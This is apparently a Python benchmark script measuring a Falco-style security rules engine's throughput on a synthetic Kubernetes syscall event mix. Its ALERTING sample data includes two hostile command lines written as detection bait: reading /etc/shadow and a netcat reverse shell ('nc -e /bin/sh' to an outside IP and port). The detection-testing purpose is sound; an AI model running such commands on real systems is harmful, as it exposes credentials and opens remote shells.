"""Rules-engine throughput on a realistic syscall mix, against a do-nothing loop over the same events.

Loads Falco's stable + incubating + sandbox rules together (from ../shared/falco-rules), builds a
deterministic mix of field-map events (opens/execs/connects ~80/15/5, values as a busy Kubernetes node
produces them; well under 1% alert) and times, in one run:

  * baseline: the same events through a loop calling a function that does nothing;
  * engine:   `RulesEngine.process(event)` for every event (Falco's default `rule_matching: first`).

Events are handed over in batches (default 512), each copied into fresh dicts just before it is timed:
the processor evaluates the events of one decoded Kafka message right after decoding them, so they are
in the CPU cache. A single pass over the whole pre-built list (every event a cache miss) is printed too
as "cold events".

Throughput is events per CPU-second of this process (time.process_time), i.e. per core, so other work on
a shared machine does not distort it; wall-clock rates are printed too. Usage:

    .venv/bin/python bench/engine_bench.py [--events N] [--repeat R] [--batch B] [--breakdown] [--profile]
"""

from __future__ import annotations

import argparse
import collections
import cProfile
import os
import platform
import pstats
import random
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
FALCO_RULES = REPO / "../shared/falco-rules"
RULE_FILES = ("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")
TARGET_PER_CORE = 250_000

Event = dict[str, Any]

# ---------------------------------------------------------------------------------------------------
# A realistic event mix
# ---------------------------------------------------------------------------------------------------

CONTAINERS = [
    ("host", None, None),
    ("host", None, None),
    ("3f9a1c2b7d4e", "docker.io/library/nginx", "shop"),
    ("8b2e6f0a9c1d", "docker.io/library/python", "shop"),
    ("c4d5e6f7a8b9", "docker.io/library/postgres", "db"),
    ("1a2b3c4d5e6f", "registry.k8s.io/kube-proxy", "kube-system"),
    ("9e8d7c6b5a4f", "docker.io/bitnami/redis", "cache"),
]

# (name, exepath, parent, ancestors, user, uid, cmdline args)
PROCESSES = [
    ("nginx", "/usr/sbin/nginx", "nginx", ["nginx", "containerd-shim", "systemd"], "www-data", 33, "-g daemon off;"),
    ("python3", "/usr/local/bin/python3.12", "gunicorn", ["gunicorn", "containerd-shim", "systemd"], "app", 1000,
     "-m gunicorn app:wsgi"),
    ("postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres", ["postgres", "containerd-shim", "systemd"],
     "postgres", 999, "-D /var/lib/postgresql/data"),
    ("java", "/usr/lib/jvm/java-17/bin/java", "containerd-shim", ["containerd-shim", "systemd"], "app", 1000,
     "-Xmx2g -jar /app/service.jar"),
    ("node", "/usr/local/bin/node", "npm", ["npm", "containerd-shim", "systemd"], "node", 1000, "server.js"),
    ("kubelet", "/usr/bin/kubelet", "systemd", ["systemd"], "root", 0, "--config=/var/lib/kubelet/config.yaml"),
    ("containerd", "/usr/bin/containerd", "systemd", ["systemd"], "root", 0, ""),
    ("systemd-journal", "/usr/lib/systemd/systemd-journald", "systemd", ["systemd"], "root", 0, ""),
    ("redis-server", "/usr/local/bin/redis-server", "containerd-shim", ["containerd-shim", "systemd"], "redis", 999,
     "*:6379"),
    ("prometheus", "/bin/prometheus", "containerd-shim", ["containerd-shim", "systemd"], "nobody", 65534,
     "--config.file=/etc/prometheus/prometheus.yml"),
]

READ_FILES = [
    "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache", "/proc/self/stat", "/proc/meminfo",
    "/sys/fs/cgroup/cpu.max", "/etc/localtime", "/etc/nsswitch.conf", "/etc/hosts", "/etc/resolv.conf",
    "/app/static/css/site.css", "/app/templates/index.html", "/usr/share/zoneinfo/UTC",
    "/var/lib/postgresql/data/base/16384/2619", "/usr/local/lib/python3.12/json/__init__.py",
    "/proc/1234/cmdline", "/sys/class/net/eth0/statistics/rx_bytes", "/etc/ssl/certs/ca-certificates.crt",
    "/var/lib/kubelet/pods/7c1e/volumes/kubernetes.io~projected/token",
]
WRITE_FILES = [
    ("/var/log/nginx/access.log", "O_WRONLY|O_APPEND|O_CREAT"),
    ("/tmp/tmpa81x2k", "O_RDWR|O_CREAT|O_EXCL"),
    ("/var/lib/postgresql/data/pg_wal/000000010000000000000001", "O_RDWR"),
    ("/app/cache/session-9f2.json", "O_WRONLY|O_CREAT|O_TRUNC"),
    ("/run/containerd/io.containerd.runtime.v2.task/k8s.io/3f9a/log.json", "O_WRONLY|O_APPEND"),
    ("/var/log/journal/3b1f/system.journal", "O_RDWR|O_CREAT"),
]
EXECS = [  # (name, exepath, args, parent, ancestors)
    ("sh", "/usr/bin/dash", "-c /usr/local/bin/healthcheck.sh", "kubelet", ["kubelet", "systemd"]),
    ("curl", "/usr/bin/curl", "-fsS http://localhost:8080/healthz", "sh", ["sh", "kubelet", "systemd"]),
    ("git", "/usr/bin/git", "fetch --all", "bash", ["bash", "sshd", "sshd", "systemd"]),
    ("ls", "/usr/bin/ls", "-la /srv", "bash", ["bash", "sshd", "sshd", "systemd"]),
    ("ps", "/usr/bin/ps", "aux", "bash", ["bash", "sshd", "sshd", "systemd"]),
    ("python3", "/usr/bin/python3.12", "/opt/jobs/report.py", "cron", ["cron", "systemd"]),
    ("runc", "/usr/bin/runc", "--root /run/containerd/runc/k8s.io init", "containerd-shim",
     ["containerd-shim", "systemd"]),
    ("pg_isready", "/usr/lib/postgresql/16/bin/pg_isready", "-U postgres", "sh", ["sh", "containerd-shim", "systemd"]),
    ("date", "/usr/bin/date", "+%s", "sh", ["sh", "cron", "systemd"]),
    ("node", "/usr/local/bin/node", "worker.js", "npm", ["npm", "containerd-shim", "systemd"]),
]
CONNECTS = [  # (remote ip, port, sip.name)
    ("10.96.0.10", 53, "kube-dns.kube-system.svc.cluster.local"),
    ("10.244.1.17", 5432, "postgres.db.svc.cluster.local"),
    ("10.244.2.9", 6379, "redis.cache.svc.cluster.local"),
    ("140.82.112.4", 443, "github.com"),
    ("52.95.110.1", 443, "s3.amazonaws.com"),
]
ALERTING: list[Event] = [  # a few genuinely suspicious events, so that the alert path is exercised too
    {"evt.type": "openat", "evt.is_open_read": True, "evt.is_open_write": False, "evt.arg.flags": "O_RDONLY",
     "fd.num": 3, "fd.typechar": "f", "fd.type": "file", "fd.name": "/etc/shadow", "fd.directory": "/etc",
     "fd.filename": "shadow", "fd.nameraw": "/etc/shadow", "proc.name": "cat", "proc.exepath": "/usr/bin/cat",
     "proc.exe": "/usr/bin/cat", "proc.cmdline": "cat /etc/shadow", "proc.args": "/etc/shadow"},
    {"evt.type": "execve", "proc.name": "nc", "proc.exepath": "/usr/bin/nc", "proc.exe": "/usr/bin/nc",
     "proc.args": "-e /bin/sh 203.0.113.7 4444", "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444"},
]


def _base(rng: random.Random, container_mix: Sequence[tuple[str, str | None, str | None]]) -> Event:
    name, exepath, parent, ancestors, user, uid, args = rng.choice(PROCESSES)
    cid, image, ns = rng.choice(container_mix)
    pid = rng.randrange(300, 60000)
    ev: Event = {
        "evt.num": rng.randrange(1, 1 << 40),
        "evt.rawtime": 1_732_800_000_000_000_000 + rng.randrange(10**12),
        "proc.pid": pid, "proc.vpid": pid, "proc.ppid": pid - 1,
        "proc.name": name, "proc.exe": exepath, "proc.exepath": exepath,
        "proc.cmdline": f"{name} {args}".strip(), "proc.args": args, "proc.cwd": "/",
        "proc.pname": parent, "proc.pexe": f"/usr/bin/{parent}", "proc.pexepath": f"/usr/bin/{parent}",
        "proc.pcmdline": parent, "proc.aname": ancestors, "proc.tty": 0, "proc.sname": ancestors[-1],
        "proc.duration": rng.randrange(10**9, 10**13), "proc.is_exe_upper_layer": False,
        "proc.is_exe_from_memfd": False, "proc.is_vpgid_leader": False,
        "user.name": user, "user.uid": uid, "user.loginuid": -1, "user.loginname": "",
        "group.gid": uid, "group.name": user,
        "container.id": cid, "container.name": f"{image.split('/')[-1]}-7d9f" if image else "host",
        "thread.cap_effective": "CAP_CHOWN CAP_NET_BIND_SERVICE" if image else "CAP_SYS_ADMIN",
        "thread.cap_permitted": "CAP_CHOWN CAP_NET_BIND_SERVICE" if image else "CAP_SYS_ADMIN",
    }
    for i, a in enumerate(ancestors, start=1):
        ev[f"proc.aname[{i}]"] = a
        ev[f"proc.aexepath[{i}]"] = f"/usr/bin/{a}"
    if image:
        ev["container.image.repository"] = image
        ev["container.privileged"] = False
        ev["container.start_ts"] = 1_732_700_000_000_000_000
        ev["k8s.ns.name"] = ns
        ev["k8s.pod.name"] = f"{image.split('/')[-1]}-7d9f-x2"
    return ev


def _open(rng: random.Random, ev: Event) -> Event:
    fd = rng.randrange(3, 200)
    ev["evt.type"] = "openat" if rng.random() < 0.9 else "open"
    if rng.random() < 0.8:
        path, flags = rng.choice(READ_FILES), "O_RDONLY|O_CLOEXEC"
        ev["evt.is_open_read"], ev["evt.is_open_write"] = True, False
    else:
        path, flags = rng.choice(WRITE_FILES)
        ev["evt.is_open_read"], ev["evt.is_open_write"] = flags.startswith("O_RDWR"), True
    failed = rng.random() < 0.05
    ev.update({
        "evt.arg.flags": flags, "evt.arg.mode": 0, "evt.rawres": -2 if failed else fd,
        "evt.res": "ENOENT" if failed else "SUCCESS", "fd.num": -1 if failed else fd, "fd.typechar": "f",
        "fd.type": "file", "fd.name": path, "fd.nameraw": path, "fd.directory": path.rsplit("/", 1)[0] or "/",
        "fd.filename": path.rsplit("/", 1)[1], "evt.is_open_exec": False, "fd.name_changed": False,
    })
    return ev


def _exec(rng: random.Random, ev: Event) -> Event:
    name, exepath, args, parent, ancestors = rng.choice(EXECS)
    user, uid = ("alice", 1000) if "sshd" in ancestors else ("root", 0)
    ev.update({
        "user.name": user, "user.uid": uid, "user.loginuid": uid if user == "alice" else -1,
        "proc.tty": 34816 if user == "alice" else 0,
        "evt.type": "execve", "evt.rawres": 0, "evt.res": "SUCCESS", "evt.arg.flags": "EXE_LOWER_LAYER",
        "proc.name": name, "proc.exe": exepath, "proc.exepath": exepath, "proc.args": args,
        "proc.cmdline": f"{name} {args}", "proc.pname": parent, "proc.pexe": f"/usr/bin/{parent}",
        "proc.pcmdline": parent, "proc.aname": ancestors, "proc.duration": rng.randrange(10**5, 10**7),
        "proc.exe_ino.ctime": 1_700_000_000_000_000_000, "proc.exe_ino.mtime": 1_700_000_000_000_000_000,
        "proc.exe_ino.ctime_duration_proc_start": 10**15,
    })
    for i, a in enumerate(ancestors, start=1):
        ev[f"proc.aname[{i}]"] = a
    return ev


def _connect(rng: random.Random, ev: Event) -> Event:
    ip, port, sip_name = rng.choice(CONNECTS)
    lport = rng.randrange(32768, 61000)
    ev.update({
        "evt.type": "connect", "evt.rawres": 0, "evt.res": "SUCCESS", "fd.num": rng.randrange(3, 200),
        "fd.typechar": "4", "fd.type": "ipv4", "fd.l4proto": "tcp", "fd.connected": True,
        "fd.name": f"10.244.1.5:{lport}->{ip}:{port}", "fd.ip": ip, "fd.rip": ip, "fd.sip": ip, "fd.net": ip,
        "fd.snet": ip, "fd.rnet": ip, "fd.cip": "10.244.1.5", "fd.lip": "10.244.1.5", "fd.sport": port,
        "fd.rport": port, "fd.port": port, "fd.lport": lport, "fd.cport": lport, "fd.sip.name": sip_name,
        "fd.rip.name": sip_name, "fd.name_changed": False, "fd.sockfamily": "ip",
    })
    return ev


def build_events(n: int, seed: int = 42, alert_rate: float = 0.002) -> list[Event]:
    rng = random.Random(seed)
    events: list[Event] = []
    for _ in range(n):
        ev = _base(rng, CONTAINERS)
        r = rng.random()
        if r < alert_rate:
            ev.update(rng.choice(ALERTING))
        elif r < 0.80:
            _open(rng, ev)
        elif r < 0.95:
            _exec(rng, ev)
        else:
            _connect(rng, ev)
        events.append(ev)
    return events


# ---------------------------------------------------------------------------------------------------
# Timing
# ---------------------------------------------------------------------------------------------------


def _time(loop: Callable[[], int], repeat: int) -> tuple[float, float, int]:
    """Best-of-`repeat` (cpu seconds, wall seconds) and the loop's result."""
    best_cpu, best_wall, result = float("inf"), float("inf"), 0
    for _ in range(repeat):
        w0, c0 = time.perf_counter(), time.process_time()
        result = loop()
        c1, w1 = time.process_time(), time.perf_counter()
        best_cpu, best_wall = min(best_cpu, c1 - c0), min(best_wall, w1 - w0)
    return best_cpu, best_wall, result


def _time_batches(loop: Callable[[list[Event]], int], events: list[Event], batch: int,
                  repeat: int) -> tuple[float, float, int]:
    """Like `_time`, but the events come in batches, each copied into fresh dicts just before it is timed.

    That is how the processor sees them: a sensor batch is decoded from one Kafka message and then
    evaluated event by event, so each event's dict was just built and sits in the CPU cache. Iterating
    once over a large pre-built list instead makes every event a cache miss, which measures memory
    latency more than the engine.
    """
    best_cpu, best_wall, result = float("inf"), float("inf"), 0
    for _ in range(repeat):
        cpu = wall = 0.0
        result = 0
        for start in range(0, len(events), batch):
            fresh = [dict(ev) for ev in events[start:start + batch]]
            w0, c0 = time.perf_counter(), time.process_time()
            result += loop(fresh)
            c1, w1 = time.process_time(), time.perf_counter()
            cpu, wall = cpu + c1 - c0, wall + w1 - w0
        best_cpu, best_wall = min(best_cpu, cpu), min(best_wall, wall)
    return best_cpu, best_wall, result


def machine() -> str:
    model = "unknown CPU"
    try:
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.startswith("model name"):
                model = line.split(":", 1)[1].strip()
                break
    except OSError:
        pass
    return f"{os.cpu_count()} CPUs ({model}), Python {platform.python_version()}, {platform.system()} {platform.release()}"


def load_engine(rule_matching: str) -> Any:
    from processor.engine.engine import RulesEngine

    engine = RulesEngine(rule_matching=rule_matching)
    result = engine.load_rules_files([FALCO_RULES / f for f in RULE_FILES])
    if not result.successful:
        raise SystemExit(f"rules did not load:\n{result}")
    return engine


class _CountingEvent(dict):  # type: ignore[type-arg]
    """An event that counts the engine's field reads (the engine reads events through .get)."""

    reads: collections.Counter[str] = collections.Counter()

    def get(self, key: str, default: Any = None) -> Any:
        self.reads[key] += 1
        return dict.get(self, key, default)


def breakdown(engine: Any, events: list[Event], batch: int) -> None:
    by_type: dict[str, list[Event]] = collections.defaultdict(list)
    for ev in events:
        by_type[ev["evt.type"]].append(ev)
    process = engine.process

    def run(evs: list[Event]) -> int:
        return sum(1 for ev in evs if process(ev))

    for et, evs in sorted(by_type.items(), key=lambda kv: -len(kv[1])):
        cpu, _, _ = _time_batches(run, evs, batch, 1)
        _CountingEvent.reads.clear()
        for ev in evs:
            engine.process(_CountingEvent(ev))
        reads = _CountingEvent.reads
        top = ", ".join(f"{k} {v / len(evs):.1f}" for k, v in reads.most_common(6))
        print(f"  {et:8} {len(evs) / cpu:>9,.0f} ev/s/core, {len(engine.ruleset.candidates(et)):2} candidate rules, "
              f"{sum(reads.values()) / len(evs):5.1f} field reads/event (top: {top})")


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=200_000, help="events in the mix (default 200000)")
    ap.add_argument("--repeat", type=int, default=3, help="timing repetitions, best is kept (default 3)")
    ap.add_argument("--rule-matching", choices=("first", "all"), default="first")
    ap.add_argument("--batch", type=int, default=512,
                    help="events per batch, each batch freshly copied before it is timed (default 512)")
    ap.add_argument("--per-rule", action="store_true",
                    help="also time rule-by-rule evaluation (one filter per candidate rule, no fused functions)")
    ap.add_argument("--profile", action="store_true", help="also print a cProfile of one engine pass")
    ap.add_argument("--breakdown", action="store_true",
                    help="also print, per event type, the rate, candidate rules and field reads per event")
    args = ap.parse_args(argv)

    c0, t0 = time.process_time(), time.perf_counter()
    engine = load_engine(args.rule_matching)
    load_cpu, load_s = time.process_time() - c0, time.perf_counter() - t0
    events = build_events(args.events)
    mix = collections.Counter(e["evt.type"] for e in events)
    process = engine.process

    def nothing(event: Event) -> None:
        return None

    def baseline(evs: list[Event]) -> int:
        f = nothing
        for ev in evs:
            f(ev)
        return 0

    def run_engine(evs: list[Event]) -> int:
        p = process
        alerts = 0
        for ev in evs:
            if p(ev):
                alerts += 1
        return alerts

    run_engine(events)  # compile every event type's rules and warm caches before timing
    base_cpu, base_wall, _ = _time_batches(baseline, events, args.batch, args.repeat)
    eng_cpu, eng_wall, alerts = _time_batches(run_engine, events, args.batch, args.repeat)
    cold_base_cpu, _, _ = _time(lambda: baseline(events), args.repeat)
    cold_cpu, _, _ = _time(lambda: run_engine(events), args.repeat)

    n = len(events)
    base_rate, eng_rate = n / base_cpu, n / eng_cpu
    rules = len(engine.rule_names()) if hasattr(engine, "rule_names") else "?"
    print(f"machine      : {machine()}")
    print(f"rules        : {', '.join(RULE_FILES)} ({rules} rules, loaded in {load_cpu:.2f} s CPU, "
          f"{load_s:.2f} s wall)")
    print(f"events       : {n} ({', '.join(f'{k} {v}' for k, v in mix.most_common())}); "
          f"{alerts} alerting ({100 * alerts / n:.2f}%)")
    print(f"rule_matching: {args.rule_matching}; batches of {args.batch} fresh events; best of {args.repeat}")
    print(f"baseline     : {base_rate:,.0f} events/s per core (do-nothing loop; wall {n / base_wall:,.0f}/s)")
    print(f"engine       : {eng_rate:,.0f} events/s per core (wall {n / eng_wall:,.0f}/s), "
          f"{1e6 / eng_rate:.2f} us/event")
    print(f"ratio        : engine/baseline = {eng_rate / base_rate:.4f} "
          f"(engine costs {base_rate / eng_rate:.1f}x the do-nothing loop)")
    print(f"target       : {TARGET_PER_CORE:,} events/s per core -> "
          f"{'MET' if eng_rate >= TARGET_PER_CORE else 'NOT MET'}")
    print(f"cold events  : engine {n / cold_cpu:,.0f} events/s per core, baseline {n / cold_base_cpu:,.0f}, ratio "
          f"{cold_base_cpu / cold_cpu:.4f} (one pass over all {n} pre-built events: each one a cache miss)")

    if args.per_rule:
        from processor.engine.ruleset import Ruleset

        per_rule = Ruleset(engine.ruleset.rules, args.rule_matching, fused=False).process

        def run_per_rule(evs: list[Event]) -> int:
            return sum(1 for ev in evs if per_rule(ev))

        pr_cpu, _, _ = _time_batches(run_per_rule, events, args.batch, args.repeat)
        print(f"rule by rule : {n / pr_cpu:,.0f} events/s per core (each candidate rule's own filter, "
              f"as before fusing); fused = {pr_cpu / eng_cpu:.1f}x faster")
    if args.breakdown:
        breakdown(engine, events, args.batch)
    if args.profile:
        prof = cProfile.Profile()
        prof.enable()
        run_engine(events)
        prof.disable()
        pstats.Stats(prof).sort_stats("tottime").print_stats(25)
    return 0


if __name__ == "__main__":
    sys.exit(main())
